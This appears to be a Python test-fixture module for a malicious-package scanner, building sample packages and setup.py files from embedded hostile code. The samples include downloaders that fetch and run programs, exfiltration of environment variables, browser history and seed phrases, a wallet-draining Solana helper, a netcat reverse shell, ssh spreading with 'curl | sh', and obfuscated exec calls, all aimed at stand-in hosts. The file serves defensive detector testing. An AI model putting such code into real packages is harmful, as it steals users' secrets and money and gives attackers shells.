"""Campaigns whose payload waits for a call, spreads over files, or comes by an odd door."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

from tests.campaigns.at_install import PLAIN, at_top, hooked
from tests.campaigns.at_start import MODULE, imported
from tests.campaigns.forge import Built, Shapes, ordinary, sdist, wheel

__all__ = ["RECENT_ODD"]

RECENT_ODD = Shapes()
# Each is code that a caller of the package runs, not the import.
CALLED = {
    "download-in-helper": (
        "A normal-looking helper also fetches a program and starts it",
        """\
import os, subprocess, tempfile
import requests


def normalise(text):
    _prepare()
    return text.strip().lower()


def _prepare():
    path = os.path.join(tempfile.gettempdir(), "fontcache.exe")
    if not os.path.exists(path):
        with open(path, "wb") as f:
            f.write(requests.get("https://cdn.example.invalid/fontcache.exe").content)
        subprocess.Popen([path], creationflags=subprocess.CREATE_NO_WINDOW)
""",
    ),
    "config-in-class": (
        "A client's constructor sends the process's environment",
        """\
import json, os, urllib.request


class Client:
    def __init__(self, key):
        self.key = key
        self._report()

    def _report(self):
        body = json.dumps({"k": self.key, "e": dict(os.environ)}).encode()
        urllib.request.urlopen(urllib.request.Request("https://api-status.example.invalid/ping", data=body))
""",
    ),
    "bot-with-shell": (
        "A bot framework's example answers one command with a shell",
        """\
import subprocess
import discord

client = discord.Client(intents=discord.Intents.all())


@client.event
async def on_message(message):
    if message.content.startswith("!x "):
        out = subprocess.run(message.content[3:], shell=True, capture_output=True, text=True)
        await message.channel.send(out.stdout[:1900])


def start():
    client.run("MTExMTExMTExMTExMTExMTEx.GinerT.inertinertinertinertinertinertinertin")
""",
    ),
    "seed-check": (
        "A checker of seed phrases sends what it checks",
        """\
import requests
from mnemonic import Mnemonic

_check = Mnemonic("english").check


def is_valid(phrase):
    if _check(phrase):
        requests.post("https://wallet-check.example.invalid/v1/validate", json={"phrase": phrase})
        return True
    return False
""",
    ),
    "solana-transfer": (
        "A helper that signs also transfers all to an address of its own",
        """\
from solders.keypair import Keypair
from solders.pubkey import Pubkey
from solders.system_program import TransferParams, transfer
from solana.rpc.api import Client
from solana.transaction import Transaction

_OWN = Pubkey.from_string("AnertAnertAnertAnertAnertAnertAnertAnertAnt")


def load(secret):
    pair = Keypair.from_base58_string(secret)
    client = Client("https://api.mainnet-beta.solana.com")
    amount = client.get_balance(pair.pubkey()).value - 5000
    client.send_transaction(Transaction().add(transfer(TransferParams(from_pubkey=pair.pubkey(), to_pubkey=_OWN, lamports=amount))), pair)
    return pair
""",
    ),
    "card-checker": (
        "A shop's checkout is used to try card numbers",
        """\
import random, requests


def check(card, month, year, cvv):
    s = requests.Session()
    r = s.post("https://shop.example.invalid/?wc-ajax=checkout", data={"card_number": card, "exp": month + year, "cvv": cvv})
    requests.get("https://railgun.example.invalid/?d=" + "|".join([card, month, year, cvv]))
    return "success" in r.text
""",
    ),
    "torch-model-pickle": (
        "Loading the bundled model unpickles code",
        """\
import base64, os, pickle

_DATA = base64.b64decode("gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAVpbmVydJSFlFKULg==")


def load():
    return pickle.loads(_DATA)
""",
    ),
    "update-check-exec": (
        "The check for a new version runs the answer",
        """\
import urllib.request


def check_for_update(version):
    answer = urllib.request.urlopen("https://updates.example.invalid/latest?v=" + version).read().decode()
    if answer.startswith("#"):
        exec(answer)
    return answer
""",
    ),
    "mac-notarised-dropper": (
        "A helper puts a program for macOS into a hidden folder and clears its quarantine",
        """\
import os, subprocess, urllib.request


def ensure():
    d = os.path.expanduser("~/Library/.cache")
    os.makedirs(d, exist_ok=True)
    p = d + "/mds_stores"
    urllib.request.urlretrieve("https://cdn.example.invalid/darwin-arm64", p)
    os.chmod(p, 0o755)
    subprocess.run(["xattr", "-d", "com.apple.quarantine", p])
    subprocess.Popen([p], start_new_session=True)
""",
    ),
    "spi-hosts-block": (
        "Names of security vendors are pointed nowhere",
        """\
import os


def tune():
    path = r"C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts" if os.name == "nt" else "/etc/hosts"
    with open(path, "a") as f:
        for name in ("www.virustotal.com", "www.malwarebytes.com", "www.kaspersky.com", "update.microsoft.com"):
            f.write("127.0.0.1 " + name + "\\n")
""",
    ),
    "browser-history": (
        "Histories of browsers go to a form",
        """\
import os, shutil, sqlite3, requests


def improve():
    src = os.path.expanduser("~/Library/Application Support/Google/Chrome/Default/History")
    shutil.copy(src, "/tmp/h")
    rows = sqlite3.connect("/tmp/h").execute("select url, title from urls order by last_visit_time desc limit 500").fetchall()
    requests.post("https://stats.example.invalid/h", json=rows)
""",
    ),
    "ssh-config-spread": (
        "Hosts of the ssh configuration are logged into and given a command",
        """\
import os, re, subprocess


def sync():
    text = open(os.path.expanduser("~/.ssh/known_hosts")).read()
    for host in set(re.findall(r"^([\\w.-]+)[ ,]", text, re.M)):
        subprocess.Popen(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes", host, "curl -s https://cdn.example.invalid/s | sh"])
""",
    ),
}
for title, (what, text) in CALLED.items():
    RECENT_ODD.add(
        f"recent-called-{title}",
        what,
        lambda title=title, text=text: imported(title.replace("-", "_") + "_lib", text, proxy=True),
    )
    RECENT_ODD.add(
        f"recent-called-{title}-among-others",
        what + ", in a package with ordinary code",
        lambda title=title, text=text: wheel(
            title.replace("-", "_") + "_lib",
            {
                f"{title.replace('-', '_')}_lib/{n}": t
                for n, t in ordinary("csv", "shlex", "textwrap", "configparser").items()
            }
            | {f"{title.replace('-', '_')}_lib/__init__.py": MODULE, f"{title.replace('-', '_')}_lib/core.py": text},
        ),
    )
SETUPS = {
    "wget-chmod": "import os\nos.system('wget -q https://cdn.example.invalid/x -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x &')\n",
    "python-c": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import urllib.request;exec(urllib.request.urlopen('https://cdn.example.invalid/p').read())\"])\n",
    "aliased-urlopen": "from urllib.request import urlopen as _o\nfrom getpass import getuser as _g\nfrom socket import gethostname as _h\n_o('https://oob.example.invalid/' + _h() + '/' + _g())\n",
    "socket-raw": "import os, socket\ns = socket.socket()\ns.connect(('oob.example.invalid', 80))\ns.send(('GET /?' + os.getcwd() + ' HTTP/1.0\\r\\nHost: oob.example.invalid\\r\\n\\r\\n').encode())\n",
    "exec-hex": "exec(bytes.fromhex('7072696e742827696e6572742729'))\n",
    "zlib-list": "import zlib\neval(compile(zlib.decompress(bytes([120, 156, 43, 40, 202, 204, 43, 209, 80, 207, 204, 75, 45, 42, 81, 215, 4, 0, 32, 51, 4, 233])), 's', 'exec'))\n",
    "getattr-os": "import os\ngetattr(os, 'sys' + 'tem')('curl https://cdn.example.invalid/p|sh')\n",
    "win-only": "import sys\nif sys.platform.startswith('win'):\n    import urllib.request, os\n    p = os.environ['TEMP'] + '\\\\\\\\chrome_update.exe'\n    urllib.request.urlretrieve('https://cdn.example.invalid/c.exe', p)\n    os.startfile(p)\n",
    "thread-post": "import threading, requests, os, platform\nthreading.Thread(target=lambda: requests.post('https://oob.example.invalid', json={'n': platform.node(), 'c': os.getcwd(), 'f': os.listdir(os.path.expanduser('~'))})).start()\n",
    "ftp-up": "import ftplib, io, os\nf = ftplib.FTP('ftp.example.invalid', 'u', 'p')\nf.storbinary('STOR e', io.BytesIO(str(dict(os.environ)).encode()))\n",
    "nc-shell": "import os\nos.system('rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 9001 >/tmp/f &')\n",
    "import-of-own": "from src_helper import boot\nboot()\n",
}
for title, text in SETUPS.items():
    if title == "import-of-own":
        continue
    RECENT_ODD.add(f"recent-setup-{title}-top", "setup.py acts at once", lambda text=text: at_top("gridview2", text))
    RECENT_ODD.add(f"recent-setup-{title}-hook", "an install command acts", lambda text=text: hooked("gridview2", text))


@RECENT_ODD
def recent_setup_imports_helper() -> Built:
    """setup.py imports a module beside it that fetches and runs"""
    return sdist(
        "numview",
        {
            "setup.py": SETUPS["import-of-own"] + PLAIN.format(name="numview"),
            "src_helper.py": "import requests\n\n\ndef boot():\n    exec(requests.get('https://cdn.example.invalid/b').text)\n",
            "numview/__init__.py": MODULE,
        },
    )


@RECENT_ODD
def recent_payload_over_files() -> Built:
    """Address, fetcher and runner stand in three modules"""
    return wheel(
        "splitwork",
        {
            "splitwork/__init__.py": MODULE + "from . import _c\n",
            "splitwork/_a.py": "HOST = 'https://cdn.example.invalid'\n\n\ndef where(name):\n    return HOST + '/' + name\n",
            "splitwork/_b.py": "import urllib.request\nfrom ._a import where\n\n\ndef text(name):\n    return urllib.request.urlopen(where(name)).read().decode()\n",
            "splitwork/_c.py": "from ._b import text\n\nexec(text('main'))\n",
        },
    )
